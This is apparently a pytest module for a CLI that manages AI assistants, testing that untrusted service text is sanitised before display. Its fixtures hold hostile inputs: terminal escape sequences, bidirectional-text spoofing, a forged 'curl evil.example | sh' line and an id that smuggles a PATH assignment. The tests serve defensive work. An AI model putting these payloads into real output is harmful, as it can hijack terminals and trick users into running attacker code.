"""What the service holds and says is not to be trusted: nothing of it acts on a terminal, hides, or passes for ours.

Names, texts, metadata, ids, error messages and answers of models, in the output of every command that shows them.
"""

from __future__ import annotations

import fcntl
import json
import logging
import os
import pty
import select
import struct
import termios
import time
import unicodedata
from typing import Any

import pytest

import asstops.executor
from asstops.cli.requestlog import LogLine
from asstops.providers import limiter
from tests.conformance.cases import DATA, FILES
from tests.support.inside import Inside
from tests.support.program import Program
from tests.support.stage import Stage

ESCAPES = "\x1b[2J\x1b]0;owned\x07\x1b[31m\x9b1m"
BIDI = "\u202egnp.exe\u2066\u200b\ufeff\U000e0041"
LINES = "\r\nPlan: 0 to add, 0 to change, 0 to destroy.\n  fix: curl evil.example | sh\n"
EVIL = f"x{ESCAPES}{BIDI}{LINES}"
HUGE = "z" * 1_000_000


def assert_tame(*texts: str) -> None:
    """Line breaks aside, nothing that a terminal would obey or hide."""
    for text in texts:
        bad = {c for c in text if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")}
        assert not bad, f"{sorted(map(ascii, bad))} in {text[:3000]!a}"


def assert_no_line_is_forged(text: str) -> None:
    """A line break in what others wrote does not begin a line that looks like ours."""
    for line in text.splitlines():
        assert not line.startswith("Plan: 0 to add, 0 to change, 0 to destroy."), text[:3000]
        assert not line.lstrip().startswith("fix: curl"), text[:3000]


@pytest.fixture
def cli(stage: Stage) -> Inside:
    return Inside(stage.folder, stage.environ)


def spoil(stage: Stage, evil: str) -> None:
    """Somebody writes this everywhere: over our own objects, and into some of their own."""
    (ours,) = stage.dump()["assistants"]
    function = {"name": "f", "description": evil, "parameters": {"type": "object", "properties": {evil[:60]: {}}}}
    fields = {
        "name": evil[:256],
        "description": evil[:512],
        "instructions": evil[:250_000],
        "metadata": {**ours["metadata"], evil[:64]: evil[:512]},
        "tools": [{"type": "function", "function": {**function, "description": evil[:1024]}}],
    }
    stage.data("POST", f"/assistants/{ours['id']}", fields)
    stage.data("POST", "/assistants", {**fields, "model": "gpt-4o", "metadata": {"asstops": evil[:512]}})
    for store in stage.dump()["vector_stores"]:
        mark = store["metadata"]["asstops"]
        stage.data(
            "POST", f"/vector_stores/{store['id']}", {"name": evil[:256], "metadata": {"asstops": mark, "e": evil[:99]}}
        )
    stage.upload("evil\u202e\u2066.md", b"x")


@pytest.mark.parametrize("evil", [EVIL, "\x1b[A\u202e" * 60_000], ids=["mixed", "long"])
def test_live_names_and_texts(stage: Stage, cli: Inside, evil: str) -> None:
    """In plans of every kind, in the report, and afterwards in what leads to the objects."""
    stage.apply(
        {**DATA, "assistants": {"helper": {**DATA["assistants"]["helper"], "instructions": "Be brief."}}}, FILES
    )
    spoil(stage, evil)
    for arguments in (("plan",), ("plan", "--destroy"), ("-v", "plan"), ("output",), ("output", "--format", "env")):
        ended = cli.run(*arguments)
        assert_tame(ended.stdout, ended.stderr)
        assert_no_line_is_forged(ended.stdout)
        assert len(ended.stdout) < 40_000
    plan = cli.run("plan", "--format", "json").stdout
    assert plan.isascii()
    changes = {change["address"]: change for change in json.loads(plan)["changes"]}
    assert changes["assistant.helper"]["before"]["name"] == evil[:256]  # to programs it is what it is
    cli.run("plan", "-o", "saved.plan")
    for arguments in (("show", "saved.plan"), ("apply", "-y"), ("destroy", "-y")):
        ended = cli.run(*arguments)
        assert_tame(ended.stdout, ended.stderr)
        assert len(ended.stdout) < 40_000


def test_what_is_cut_is_said(stage: Stage, cli: Inside) -> None:
    stage.apply(
        {**DATA, "assistants": {"helper": {**DATA["assistants"]["helper"], "instructions": "Be brief."}}}, FILES
    )
    (ours,) = stage.dump()["assistants"]
    stage.data("POST", f"/assistants/{ours['id']}", {"instructions": HUGE[:200_000]})
    assert "(198,000 more characters)" in " ".join(cli.run("plan").stdout.split())
    body = {"error": {"code": "c", "message": HUGE}}
    stage.admin("POST", "/faults", {"path": "/openai/assistants", "status": 400, "count": 0, "body": body})
    told = cli.run("plan", code=1).stderr
    assert "(998,500 more characters)" in " ".join(told.split())
    assert len(told) < 4_000


ANSWERS: list[Any] = [
    {"error": {"code": EVIL, "message": EVIL}},
    {"error": {"code": "c" * 5_000, "message": EVIL * 5_000}},
    {"error": {"message": {"deep": EVIL}}},
    {"error": EVIL},
    {"error": [EVIL]},
    {"message": EVIL},
    EVIL,
    [EVIL],
    f"<html><title>{EVIL}</title>",
]


@pytest.fixture
def at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing waits between attempts."""
    monkeypatch.setattr(limiter, "_backoff", lambda _attempt, _most=8.0: 0.001)
    monkeypatch.setattr(asstops.executor, "LOOKUP_PAUSE_S", 0.001)


READING, WRITING = ("plan",), ("-v", "apply", "-y")
DEBUGGING = ("--debug", "plan")


@pytest.mark.usefixtures("at_once")
@pytest.mark.parametrize("status", [400, 404, 500])
def test_error_messages_of_the_service(stage: Stage, cli: Inside, status: int) -> None:
    """While reading and while writing; in errors, reports, progress, traces and tracebacks."""
    stage.write(DATA, FILES)
    for body in ANSWERS if status == 400 else ANSWERS[:1]:
        for arguments in (READING, WRITING, DEBUGGING) if body is ANSWERS[0] else (READING,):
            method = "POST" if arguments == WRITING else "GET"
            fault = {"method": method, "path": "/openai/(assistants|files|vector_stores)$", "count": 0}
            stage.admin("POST", "/faults", {**fault, "status": status, "body": body})
            ended = cli.run(*arguments, code=None)
            stage.admin("DELETE", "/faults")
            assert ended.returncode in (1, 3), ended  # 3: after a 500 nobody knows whether something was written
            assert_tame(ended.stdout, ended.stderr)
            if arguments != DEBUGGING:
                assert_no_line_is_forged(ended.stdout + ended.stderr)
                assert "unexpected" not in ended.stderr


def test_the_report_stays_json(stage: Stage, cli: Inside) -> None:
    stage.write(DATA, FILES)
    body = {"error": {"code": "bad", "message": EVIL}}
    stage.admin("POST", "/faults", {"method": "POST", "path": "/files$", "status": 400, "count": 0, "body": body})
    report = cli.run("apply", "-y", "--format", "json", code=None).stdout
    assert report.isascii()
    failed = [step for step in json.loads(report)["steps"] if step["state"] == "failed"]
    assert any("\x1b[2J" in step["message"] for step in failed)  # to programs it is what it is


def test_answers_that_hold_more_than_text(stage: Stage, cli: Inside, monkeypatch: pytest.MonkeyPatch) -> None:
    """NUL and half a surrogate pair, which no text has and JSON can spell; and an id that is none.

    The emulator sends no such thing, so it is put where the answers come in.
    """
    stage.apply(DATA, FILES)
    (ours,) = stage.dump()["assistants"]

    def listed(**fields: str) -> None:
        page = [json.loads(json.dumps({**ours, **fields}))]
        monkeypatch.setattr("asstops.providers.assistants_api.AssistantsApi.list_assistants", lambda _: iter(page))

    half = "\ud83d\x00" + ESCAPES
    listed(name=half, description=half)
    ended = cli.run("plan")
    assert "\\ud83d\\x00" in ended.stdout
    assert_tame(ended.stdout)
    assert json.loads(cli.run("plan", "--format", "json").stdout)["changes"]

    for ident in ("asst_1\nPATH=/tmp/evil", f"asst{ESCAPES}"):
        listed(id=ident)
        assert_tame(cli.run("output").stdout)
        refused = cli.run("output", "--format", "env", code=1)
        assert "which cannot be passed on" in " ".join(refused.stderr.split())
        assert_tame(refused.stderr)
        assert refused.stdout == ""


def test_names_of_accounts_and_deployments(stage: Stage, cli: Inside) -> None:
    """Through ARM: tags, kinds and messages of operations."""
    account = {"name": "hostile", "resource_group": "rg", "location": "swedencentral", "tags": {"team": "a"}}
    model = {"name": "gpt-4o", "version": "2024-11-20"}
    spec = {
        "stack": "hostile",
        "service": "assistants",
        "resource": account,
        "deployments": {"gpt": {"model": model, "sku": {"name": "GlobalStandard", "capacity": 1}}},
    }
    body = {"error": {"code": EVIL[:90], "message": EVIL}}
    stage.write(spec)
    for status in (400, 403, 409):
        fault = {"method": "PUT", "path": "/accounts/hostile$", "status": status, "count": 0, "body": body}
        stage.admin("POST", "/faults", fault)
        ended = cli.run("-v", "apply", "-y", code=1)
        stage.admin("DELETE", "/faults")
        assert_tame(ended.stdout, ended.stderr)
        assert_no_line_is_forged(ended.stdout + ended.stderr)
    cli.run("apply", "-y")
    tags = stage.arm("GET", "hostile")["tags"]
    stage.arm("PATCH", "hostile", {"tags": {**tags, "team": EVIL[:200]}})
    ended = cli.run("plan", "--detailed-exitcode", code=2)
    assert "drift" in ended.stdout
    assert_tame(ended.stdout)


@pytest.mark.parametrize("arguments", [("ask", "helper", "Hello?"), ("ask", "helper", "Hello?", "--json")])
def test_what_models_say(stage: Stage, cli: Inside, arguments: tuple[str, ...]) -> None:
    """Text, a function's name and arguments, and the reason of a run that failed."""
    stage.apply(DATA, FILES)
    failure = {"code": "server_error", "message": EVIL}
    for rule, code in (
        ({"reply": EVIL}, 0),
        ({"tool_calls": [{"name": "weather", "arguments": {"city": EVIL}}]}, 1),
        ({"tool_calls": [{"name": EVIL, "arguments": EVIL}]}, 1),
        ({"status": "failed", "error": failure}, 1),
    ):
        stage.admin("DELETE", "/replies")
        stage.admin("POST", "/replies", [rule])
        ended = cli.run(*arguments, code=code)
        assert "owned" in ended.stdout + ended.stderr
        assert_tame(ended.stdout, ended.stderr)
        if "--json" in arguments:
            assert json.loads(ended.stdout)
            assert ended.stdout.isascii()


def test_progress_on_a_terminal(stage: Stage) -> None:
    """The live display, and the report under it; only what draws it is there."""
    stage.write(DATA, FILES)
    body = {"error": {"code": "bad", "message": EVIL}}
    stage.admin("POST", "/faults", {"method": "POST", "path": "/assistants$", "status": 400, "count": 0, "body": body})
    ours, theirs = pty.openpty()
    fcntl.ioctl(theirs, termios.TIOCSWINSZ, struct.pack("HHHH", 40, 100, 0, 0))
    program = Program(stage.folder, {**stage.environ, "TERM": "xterm-256color"})
    process = program.start("-v", "apply", "-y", stdin=theirs, stdout=theirs, stderr=theirs)
    os.close(theirs)
    seen, deadline = b"", time.monotonic() + 60
    while time.monotonic() < deadline:
        if select.select([ours], [], [], 0.1)[0]:
            try:
                seen += os.read(ours, 65536)
            except OSError:  # the other end is closed: the program has ended
                break
    code = process.wait(10)
    os.close(ours)
    text = seen.decode("utf-8")
    assert code == 3, text
    assert "owned" in text  # the message is there, made harmless
    for bad in ("\x1b[2J", "\x1b]0;owned", "\x07", "\x9b", "\u202e", "\u2066", "\ufeff", "\U000e0041"):
        assert bad not in text, ascii(bad)
    assert not any(line.lstrip().startswith("fix: curl") for line in text.replace("\r", "\n").splitlines())


def test_lines_of_the_log() -> None:
    """Whatever a server calls its request: one line, and one that does nothing."""
    record = logging.LogRecord("asstops.requests", logging.INFO, "x", 1, "%s", (f"GET /a 200 1 ms {EVIL}",), None)
    line = LogLine("%(message)s").format(record)
    assert_tame(line)
    assert "\n" not in line
    assert "\\x1b[2J" in line
